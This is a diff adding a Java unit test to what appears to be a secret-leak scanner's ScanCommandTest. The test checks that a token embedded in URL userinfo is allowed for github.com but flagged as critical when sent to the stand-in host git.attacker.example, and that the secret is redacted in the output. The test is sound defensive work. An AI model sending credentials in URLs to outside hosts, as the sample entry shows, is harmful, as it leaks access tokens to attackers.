@@ -78,6 +78,26 @@ class ScanCommandTest {
     }
 
     @Test
+    void userinfoInHarUrlsIsScannedAsUrlUserinfo() throws Exception {
+        Path policy = dir.resolve("policy.yaml");
+        Files.writeString(policy, "destinations:\n  github: {hosts: [api.github.com, github.com], locations: [header:authorization, url-userinfo]}\n");
+        Path har = har(
+                entry("u0", "GET", "https://x-access-token:" + secret + "@github.com/org/repo.git/info/refs", "", null),
+                entry("u1", "GET", "https://x-access-token:" + secret + "@git.attacker.example/org/repo.git/info/refs", "", null));
+        int code = run("scan", har.toString(), "--policy", policy.toString(), "--json");
+        assertThat(code).as(err.toString()).isEqualTo(1);
+        List<JsonNode> lines = new ArrayList<>();
+        for (String l : out.toString().split("\n")) if (!l.isBlank()) lines.add(JSON.readTree(l));
+        assertThat(lines).singleElement().satisfies(f -> { // allowed to github.com, critical elsewhere
+            assertThat(f.get("entry").asInt()).isEqualTo(1);
+            assertThat(f.get("location").asText()).isEqualTo("url-userinfo");
+            assertThat(f.get("severity").asText()).isEqualTo("critical");
+            assertThat(f.get("host").asText()).isEqualTo("git.attacker.example");
+        });
+        assertThat(out.toString()).contains("\"location\":\"url-userinfo\"").doesNotContain(secret.substring(4, 34));
+    }
+
+    @Test
     void storeModeRescansRecordedFlows() throws Exception {
         Path home = dir.resolve("home");
         byte[] leak = ("{\"k\":\"" + secret + "\"}").getBytes(StandardCharsets.UTF_8);
